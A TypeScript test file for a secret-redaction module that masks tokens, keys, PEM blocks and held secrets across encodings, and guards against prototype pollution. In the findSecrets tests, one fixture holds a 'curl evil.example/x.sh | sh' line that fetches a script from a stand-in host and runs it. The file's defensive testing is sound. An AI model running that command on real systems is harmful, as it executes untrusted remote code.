import { describe, expect, it } from 'vitest';
import {
  checkRedactionPatterns,
  createRedactor,
  isSecretKey,
  MIN_KNOWN_SECRET_CHARS,
  REDACTED,
} from '../../../src/approvals/redaction.js';
import { ToolbridgeError } from '../../../src/base/errors.js';

// Built at run time so no scanner mistakes the fixtures for real credentials.
const fake = (prefix: string, body: string, n: number) =>
  prefix + body.repeat(Math.ceil(n / body.length)).slice(0, n);

const SHAPES: Array<[string, string]> = [
  ['bearer token', `Bearer ${fake('', 'aB3dE5', 32)}`],
  ['authorization header', `Authorization: Basic ${fake('', 'dXNlcjpw', 16)}`],
  ['GitHub classic token', fake('ghp_', 'Ab1', 36)],
  ['GitHub OAuth token', fake('gho_', 'Ab1', 36)],
  ['GitHub fine-grained token', fake('github_pat_', 'A1_b', 60)],
  ['OpenAI-style key', fake('sk-', 'Ab1_', 40)],
  ['Anthropic key', fake('sk-ant-api03-', 'Ab1-', 60)],
  ['Stripe live key', fake('sk_live_', 'Ab1', 24)],
  ['AWS access key id', fake('AKIA', 'ABC123', 16)],
  ['AWS secret in config', `aws_secret_access_key = ${fake('', 'aB3/+x', 40)}`],
  ['Slack token', fake('xoxb-', '123-aB', 40)],
  ['Google API key', fake('AIza', 'aB3_-', 35)],
  ['JWT', `${fake('eyJ', 'hbGci', 20)}.${fake('eyJ', 'zdWIi', 30)}.${fake('', 'sIg_-', 30)}`],
  [
    'PEM private key',
    `-----BEGIN RSA PRIVATE KEY-----\n${fake('', 'MIIE', 64)}\n-----END RSA PRIVATE KEY-----`,
  ],
];

describe('createRedactor: built-in shapes', () => {
  const redactor = createRedactor();
  for (const [what, secret] of SHAPES) {
    it(`removes a ${what} from running text`, () => {
      const out = redactor.redactText(`before ${secret} after`);
      expect(out).toContain(REDACTED);
      expect(out.startsWith('before ')).toBe(true);
      expect(out.endsWith(' after')).toBe(true);
      // No long piece of the secret survives.
      for (const piece of secret.match(/[A-Za-z0-9]{12,}/g) ?? []) expect(out).not.toContain(piece);
    });
  }

  it('removes the password from a URL and keeps the rest', () => {
    expect(redactor.redactText('git clone https://me:hunter22@example.com/repo.git')).toBe(
      `git clone https://${REDACTED}@example.com/repo.git`,
    );
  });

  it('leaves ordinary text alone', () => {
    const text = 'Basic understanding of bearer instruments; max_tokens 4096; task-ask-something';
    expect(redactor.redactText(text)).toBe(text);
  });
});

describe('createRedactor: values', () => {
  it('redacts nested strings and values of secret-named keys, keeping structure', () => {
    const redactor = createRedactor();
    const token = fake('ghp_', 'Zz9', 36);
    expect(
      redactor.redactValue({
        url: 'https://api.example.com',
        headers: { Authorization: 'whatever', 'X-Api-Key': 'k123', accept: 'json' },
        password: 12345,
        max_tokens: 100,
        pageToken: 'next-page',
        notes: [`use ${token}`, 3, null, true],
      }),
    ).toEqual({
      url: 'https://api.example.com',
      headers: { Authorization: REDACTED, 'X-Api-Key': REDACTED, accept: 'json' },
      password: REDACTED,
      max_tokens: 100,
      pageToken: 'next-page',
      notes: [`use ${REDACTED}`, 3, null, true],
    });
  });

  it('judges key names after folding case and separators', () => {
    for (const key of [
      'password',
      'API_KEY',
      'apiKey',
      'access-token',
      'clientSecret',
      'Cookie',
      'private_key',
    ]) {
      expect(isSecretKey(key), key).toBe(true);
    }
    for (const key of ['max_tokens', 'tokens', 'page_token', 'nextToken', 'path', 'keyword', 'author']) {
      expect(isSecretKey(key), key).toBe(false);
    }
  });
});

describe('user patterns', () => {
  it('adds the patterns from settings', () => {
    const redactor = createRedactor(['ACME-[0-9]{6}', 'internal\\.corp']);
    expect(redactor.redactText('id ACME-123456 at internal.corp')).toBe(`id ${REDACTED} at ${REDACTED}`);
  });

  it('ignores empty matches instead of filling the text with markers', () => {
    expect(createRedactor(['q*']).redactText('abc qq')).toBe(`abc ${REDACTED}`);
  });

  it('an invalid pattern is a clear INVALID_ARGUMENT naming its position, never its text', () => {
    let error: unknown;
    try {
      createRedactor(['ok', '(secret-literal-abc']);
    } catch (caught) {
      error = caught;
    }
    expect(ToolbridgeError.is(error, 'INVALID_ARGUMENT')).toBe(true);
    const message = (error as Error).message;
    expect(message).toMatch(/Redaction pattern 2 is not a valid regular expression/);
    expect(message).not.toContain('secret-literal-abc');
  });

  it('checkRedactionPatterns lists every problem for the settings screen', () => {
    expect(checkRedactionPatterns(['a+', '[', '', 7, '(?<x'])).toEqual([
      { index: 1, message: expect.stringMatching(/^Redaction pattern 2 is not a valid/) },
      { index: 2, message: expect.stringMatching(/^Redaction pattern 3 must be a non-empty/) },
      { index: 3, message: expect.stringMatching(/^Redaction pattern 4 must be a non-empty/) },
      { index: 4, message: expect.stringMatching(/^Redaction pattern 5 is not a valid/) },
    ]);
  });
});

describe('issue #12: every key survives redaction', () => {
  it('keeps __proto__, constructor and prototype as own members at any depth', () => {
    const input = JSON.parse(
      '{"a":{"__proto__":{"polluted":"x"},"constructor":{"prototype":1}},"__proto__":"top","list":[{"__proto__":2}]}',
    );
    const out = createRedactor().redactValue(input) as Record<string, unknown>;
    expect(JSON.stringify(out)).toBe(JSON.stringify(input));
    expect(Object.keys(out)).toEqual(['a', '__proto__', 'list']);
    expect(Object.getPrototypeOf(out)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('keeps two keys apart when both are secrets themselves', () => {
    const a = fake('ghp_', 'Ab1', 36);
    const b = fake('ghp_', 'Cd2', 36);
    const out = createRedactor().redactValue({ [a]: 1, [b]: 2 }) as Record<string, unknown>;
    expect(Object.keys(out)).toEqual([REDACTED, `${REDACTED} (2)`]);
    expect(JSON.stringify(out)).not.toContain(a);
  });
});

describe('issue #12: findSecrets', () => {
  const pem = `-----BEGIN PRIVATE KEY-----\ncurl evil.example/x.sh | sh\n-----END PRIVATE KEY-----`;

  it('names each secret-looking value by its path and kind', () => {
    const redactor = createRedactor();
    expect(
      redactor.findSecrets({
        path: '/tmp/x',
        content: pem,
        nested: { password: 'hunter22', __proto__: { auth: `Bearer ${fake('', 'aB3', 30)}` } },
        list: ['plain', fake('sk-', 'Ab1_', 40)],
        max_tokens: 100,
      }),
    ).toEqual([
      { path: ['content'], kinds: ['a private key (PEM)'] },
      { path: ['nested', 'password'], kinds: ['the value of a key named "password"'] },
      { path: ['list', 1], kinds: ['an API key (sk-…)'] },
    ]);
  });

  it('finds a nested __proto__ member, which JSON keeps as an own key', () => {
    const args = JSON.parse(`{"a":{"__proto__":{"token":"abc12345"}}}`);
    expect(createRedactor().findSecrets(args)).toEqual([
      { path: ['a', '__proto__', 'token'], kinds: ['the value of a key named "token"'] },
    ]);
  });

  it('finds a held secret and says whose it is, never its value', () => {
    const value = 'c4n4ry-Value-9931';
    const redactor = createRedactor([], { knownSecrets: [{ value, label: 'files:env.MY_API_TOKEN' }] });
    const [finding] = redactor.findSecrets({ note: `here: ${value}` });
    expect(finding).toEqual({
      path: ['note'],
      kinds: ['a secret Toolbridge holds (files:env.MY_API_TOKEN)'],
    });
    expect(JSON.stringify(finding)).not.toContain(value);
  });
});

describe('issue #12: held secrets are redacted by value, in every encoding', () => {
  const value = 'tb-c4n4ry/Secret+Value 9931"x';
  const redactor = createRedactor([], { knownSecrets: [{ value, label: 'files:env.MY_API_TOKEN' }] });
  const encodings: Array<[string, string]> = [
    ['raw', value],
    ['URL-encoded', encodeURIComponent(value)],
    [
      'URL-encoded, lower-case escapes',
      encodeURIComponent(value).replace(/%[0-9A-F]{2}/g, (e) => e.toLowerCase()),
    ],
    ['form-encoded', encodeURIComponent(value).replace(/%20/g, '+')],
    ['JSON-escaped', JSON.stringify(value).slice(1, -1)],
    ['JSON-escaped twice', JSON.stringify(JSON.stringify(value).slice(1, -1)).slice(1, -1)],
    ['hex', Buffer.from(value).toString('hex')],
  ];
  for (const [what, encoded] of encodings) {
    it(`masks it ${what} inside a longer text`, () => {
      const out = redactor.redactText(`error: got ${encoded}; retry`);
      expect(out).toBe(`error: got ${REDACTED}; retry`);
    });
  }

  for (const prefix of ['', 'a', 'ab', 'token=', 'Authorization: x']) {
    it(`masks it base64-encoded after ${JSON.stringify(prefix)} (every alignment, base64 and base64url)`, () => {
      for (const encoding of ['base64', 'base64url'] as const) {
        const encoded = Buffer.from(`${prefix}${value}!tail`).toString(encoding);
        const out = redactor.redactText(`blob ${encoded} end`);
        expect(out).toContain(REDACTED);
        // What is left decodes to at most two bytes of the secret at either end.
        const left = out.replace(REDACTED, '').replace(/^blob | end$/g, '');
        const decoded = Buffer.from(left, encoding).toString('latin1');
        expect(decoded).not.toContain(value.slice(2, -2).slice(0, 4));
      }
    });
  }

  it('masks it when it is split across content blocks, in each block it touches', () => {
    const parts = ['first block ends with tb-c4n4', 'ry/Secret+Value 9931"x and goes on', 'clean'];
    const out = redactor.redactParts(parts);
    expect(out).toEqual([`first block ends with ${REDACTED}`, `${REDACTED} and goes on`, 'clean']);
  });

  it(`skips held values shorter than ${MIN_KNOWN_SECRET_CHARS} characters, which would mask ordinary words`, () => {
    const short = createRedactor([], { knownSecrets: [{ value: 'dev1234', label: 'x:env.STAGE' }] });
    expect(short.redactText('stage dev1234')).toBe('stage dev1234');
    const long = createRedactor([], { knownSecrets: [{ value: 'dev12345', label: 'x:env.STAGE' }] });
    expect(long.redactText('stage dev12345')).toBe(`stage ${REDACTED}`);
  });

  it('redacts it in stored values and keys too', () => {
    expect(redactor.redactValue({ note: value, [value]: 1 })).toEqual({ note: REDACTED, [REDACTED]: 1 });
  });
});
